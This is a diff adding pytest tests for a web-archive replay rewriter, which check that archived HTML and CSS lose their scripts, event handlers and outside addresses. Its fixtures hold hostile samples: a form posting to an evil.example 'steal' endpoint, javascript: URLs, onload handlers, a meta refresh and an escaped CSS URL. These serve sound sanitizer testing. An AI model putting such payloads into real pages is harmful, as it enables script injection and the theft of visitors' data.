@@ -1,0 +1,169 @@
+"""A page without scripts, from which nothing leaves the archive."""
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from lxml import html
+
+from talkscraper.replay.css import rewrite_css
+from talkscraper.replay.rewrite import Context, next_image_target, rewrite_html, rewrite_stylesheet
+from talkscraper.replay.srcset import candidates
+
+PAGE = "http://news.example/posts/a"
+CONTEXT = Context(url=PAGE, timestamp="20251028143000")
+HERE = "/web/20251028143000"
+
+
+def rewritten(markup, context=CONTEXT, **options):
+    body = markup.encode() if isinstance(markup, str) else markup
+    return rewrite_html(body, "text/html; charset=utf-8", context, **options).decode()
+
+
+@pytest.mark.parametrize(
+    ("markup", "expected"),
+    [
+        ('<a href="/b">x</a>', f'<a href="{HERE}/http://news.example/b">x</a>'),
+        ('<a href="b?x=1&amp;y=2#part">x</a>', f'<a href="{HERE}/http://news.example/posts/b?x=1&amp;y=2#part">x</a>'),
+        ('<a href="#part">x</a>', '<a href="#part">x</a>'),
+        ('<a href="mailto:a@b.example">x</a>', '<a href="mailto:a@b.example">x</a>'),
+        ('<a href=" java\nscript:alert(1)">x</a>', "<a>x</a>"),
+        ('<a href="data:text/html,x">x</a>', "<a>x</a>"),
+        (
+            '<a href="//cdn.example/x" target="_top" onclick="x()" ping="/p">x</a>',
+            f'<a href="{HERE}/http://cdn.example/x">x</a>',
+        ),
+        ('<img src="i.png" onerror="x()">', f'<img src="{HERE}im_/http://news.example/posts/i.png">'),
+        (
+            '<img src="data:image/gif;base64,R0" data-src="/late.png">',
+            f'<img src="{HERE}im_/http://news.example/late.png"',
+        ),
+        ('<amp-img src="/i.png"></amp-img>', f'<img src="{HERE}im_/http://news.example/i.png">'),
+        (
+            '<img src="/_next/image?url=%2Fa.png&amp;w=640&amp;q=75">',
+            f"{HERE}im_/http://news.example/_next/image?url=%2Fa.png&amp;w=640&amp;q=75",
+        ),
+        (
+            '<iframe src="/f" srcdoc="<script>x</script>"></iframe>',
+            f'<iframe src="{HERE}if_/http://news.example/f"></iframe>',
+        ),
+        (
+            '<video src="/v.mp4" poster="/p.jpg"></video>',
+            f'<video src="{HERE}oe_/http://news.example/v.mp4" poster="{HERE}im_/http://news.example/p.jpg">',
+        ),
+        (
+            '<link rel="stylesheet" href="/s.css" integrity="x" crossorigin>',
+            f'<link rel="stylesheet" href="{HERE}cs_/http://news.example/s.css">',
+        ),
+        ('<link rel="stylesheet" media="print" onload="this.media=\'all\'" href="/s.css">', 'media="all"'),
+        ('<link rel="preload" as="style" href="/s.css">', f'<link rel="stylesheet" as="style" href="{HERE}cs_/'),
+        ('<div style="background:url(/b.png)">x</div>', f'url("{HERE}oe_/http://news.example/b.png")'),
+        (
+            "<style>@import \"/i.css\"; a{b:url('c.png')}</style>",
+            f'@import url("{HERE}cs_/http://news.example/i.css"); a{{b:url("{HERE}oe_/http://news.example/posts/c.png")}}',
+        ),
+        (
+            '<svg><image xlink:href="/i.png"/><use href="#x"/></svg>',
+            f'xlink:href="{HERE}im_/http://news.example/i.png"',
+        ),
+        ('<base href="http://other.example/d/"><a href="x">x</a>', f'<a href="{HERE}/http://other.example/d/x">x</a>'),
+        ("<p>a<script>x()</script>b</p>", "<p>ab</p>"),
+        (
+            '<noscript><img src="/n.png"></noscript>',
+            f'<noscript><img src="{HERE}im_/http://news.example/n.png"></noscript>',
+        ),
+    ],
+)
+def test_each_kind_of_address_is_put_into_the_archive(markup, expected):
+    """Links, pictures, frames, media, styles: rewritten, or gone."""
+    assert expected in rewritten(f"<html><body>{markup}</body></html>")
+
+
+HOSTILE = """<!doctype html><html manifest="/m"><head><base href="http://evil.example/">
+<meta http-equiv="refresh" content="0;url=http://evil.example/"><meta http-equiv=Content-Security-Policy content="x">
+<meta name=referrer content=unsafe-url><link rel=dns-prefetch href=//evil.example><link rel=preload as=script href=/s.js>
+<link rel=import href=/i.html><link rel=modulepreload href=/m.js><script src=/s.js></script></head>
+<body onload="x()" background="http://evil.example/bg.png"><form action="http://evil.example/steal" method=post>
+<input name=a autofocus onfocus=x()><button formaction="javascript:x()">go</button></form>
+<object data="http://evil.example/o"><embed src="http://evil.example/e"></object><svg onload=x()><animate onbegin=x() attributeName=href to=javascript:x()>
+<a xlink:href="javascript:x()">x</a></svg><iframe src="javascript:x()"></iframe><img srcset="http://evil.example/1.png 1x, http://evil.example/2.png 2x">
+<template><script>x()</script></template><a href="http://evil.example/go">out</a></body></html>"""
+
+
+def test_a_hostile_page_keeps_no_script_no_handler_no_directive_and_no_outside_address():
+    """Every attribute is looked at, after a parse of what a browser would get."""
+    tree = html.document_fromstring(rewritten(HOSTILE))
+    for element in tree.iter():
+        assert element.tag not in ("script", "base", "embed", "object", "template", "animate")
+        for name, value in element.attrib.items():
+            assert not name.startswith("on"), (element.tag, name)
+            assert name not in ("action", "formaction", "ping", "manifest", "http-equiv", "srcdoc", "autofocus")
+            assert "javascript:" not in value
+            if "evil.example" in value:
+                assert value.startswith("/web/") or ", /web/" in value, (element.tag, name, value)
+    assert next(meta.attrib for meta in tree.iter("meta")) == {"charset": "utf-8"}
+
+
+def test_only_sizes_of_a_picture_that_are_archived_are_offered():
+    """A browser would choose one that is missing."""
+    context = Context(url=PAGE, timestamp="20251028143000", is_archived=lambda url: url.endswith("640.png"))
+    markup = '<img srcset="/320.png 320w, /640.png 640w, /1080.png 1080w">'
+    assert f'srcset="{HERE}im_/http://news.example/640.png 640w"' in rewritten(markup, context)
+
+
+def test_a_srcset_is_read_as_browsers_do():
+    """URLs may hold commas; descriptors may be missing."""
+    assert candidates("a,b.png 1x, c.png 2x,d.png") == [("a,b.png", "1x"), ("c.png", "2x"), ("d.png", "")]
+
+
+def test_the_banner_comes_first_in_the_body_and_the_doctype_stays():
+    """The doctype decides how browsers lay a page out."""
+    text = rewritten('<!DOCTYPE html><html><body class="a>b"><p>x</p></body></html>', banner="<b-anner></b-anner>")
+    assert text.startswith("<!DOCTYPE html>\n")
+    assert re.search(r'<body class="a(>|&gt;)b"><b-anner></b-anner><p>x</p>', text)
+    assert not rewritten("<html><body>quirks</body></html>").startswith("<!DOCTYPE")
+
+
+def test_a_page_in_another_encoding_is_served_in_utf8_and_says_so():
+    """Shift_JIS bytes, declared in the page only."""
+    body = '<html><head><meta charset="Shift_JIS"></head><body>港の経済</body></html>'.encode("shift_jis")
+    out = rewrite_html(body, "text/html", CONTEXT)
+    assert "港の経済".encode() in out
+    assert out.count(b"charset") == 1
+
+
+def test_css_keeps_its_shape_and_loses_what_leads_outside():
+    """Escapes and comments don't hide an address; data images stay."""
+    css = '@charset "utf-8"; a{b:url( "x.png" )} /* url(http://evil.example/c) */ @import url(y.css); c{d:url(data:image/png;base64,AA)} e{f:url(\\68ttp://evil.example/z)} g{h:url(javascript:x)}'
+    out = rewrite_stylesheet(css.encode(), "text/css", CONTEXT).decode()
+    assert f'a{{b:url("{HERE}oe_/http://news.example/posts/x.png")}}' in out
+    assert f'@import url("{HERE}cs_/http://news.example/posts/y.css")' in out
+    assert 'd:url("data:image/png;base64,AA")' in out
+    assert f'f:url("{HERE}oe_/http://evil.example/z")' in out
+    assert 'h:url("about:invalid")' in out
+    assert "/* " not in out
+
+
+def test_next_js_pictures_lead_to_the_picture_itself():
+    """When no resized one was kept."""
+    assert (
+        next_image_target("http://news.example/_next/image?url=%2Fmedia%2Fa.png&w=640&q=75")
+        == "http://news.example/media/a.png"
+    )
+    assert next_image_target("http://news.example/a.png") is None
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.binary(max_size=400))
+def test_no_bytes_crash_the_rewriter(body):
+    """Whatever is captured, the reader gets a page."""
+    out = rewrite_html(body, None, CONTEXT)
+    assert b"<script" not in out.lower()
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.text(alphabet="url()@import'\"\\/*:;{} a\n1", max_size=120))
+def test_no_style_sheet_crashes_the_rewriter_or_leaves_its_element(text):
+    """Nothing ends the style element or the attribute it stands in."""
+    assert "</" not in rewrite_css(text.replace("</", ""), lambda _url, _modifier: "/web/x")
